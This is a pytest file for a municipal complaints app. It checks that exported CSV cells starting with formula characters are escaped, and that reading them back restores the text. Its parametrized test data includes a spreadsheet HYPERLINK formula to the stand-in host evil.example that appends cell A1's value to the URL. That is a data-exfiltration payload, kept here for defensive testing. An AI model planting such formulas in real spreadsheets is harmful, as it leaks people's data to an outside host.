"""No exported cell is run as a formula by a spreadsheet, and reading it back gives the text as typed."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from klachtwijzer.complaints.models import PersonalData
from klachtwijzer.complaints.register import export_register, import_register
from klachtwijzer.complaints.tests.factories import received_complaint
from klachtwijzer.complaints.tests.test_register import csv_bytes
from klachtwijzer.spreadsheets import FORMULA_STARTS, safe_cell, unescape_cell


@pytest.mark.parametrize(
    "typed",
    ['=HYPERLINK("https://evil.example/?x="&A1;"Klik")', "+31 6 1234", "-1+2", "@SUM(A1)", "\t=1", "\r=1"],
)
def test_a_formula_is_written_as_text(typed):
    assert safe_cell(typed) == "'" + typed


@pytest.mark.parametrize("value", ["-3", "-2,5", "+7", "Burgerzaken", "", 12, None])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == value


@given(st.text())
def test_no_cell_starts_a_formula_and_reading_back_gives_the_text(text):
    cell = safe_cell(text)

    number = cell.lstrip("+-").replace(",", "").replace(".", "")
    assert not cell.startswith(FORMULA_STARTS) or number.isdigit()
    assert unescape_cell(cell) == text or text.startswith("'")


@pytest.mark.django_db
def test_the_register_export_does_not_carry_the_formula_from_the_public_form(municipality):
    typed = '=HYPERLINK("https://evil.example/","Klik hier")'
    received_complaint(personal={"name": "X", "description": typed})
    out = io.StringIO()

    export_register(out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    description = next(value for value in rows[0].values() if "HYPERLINK" in value)

    assert description == "'" + typed


@pytest.mark.django_db
def test_importing_an_exported_formula_gives_the_text_as_typed(municipality):
    line = "TST-2024-0001,2024-03-04,,,Burgerzaken,,,,,,,'=1+1 was het antwoord"
    import_register(io.BytesIO(csv_bytes(line)))

    assert PersonalData.objects.get().description == "=1+1 was het antwoord"
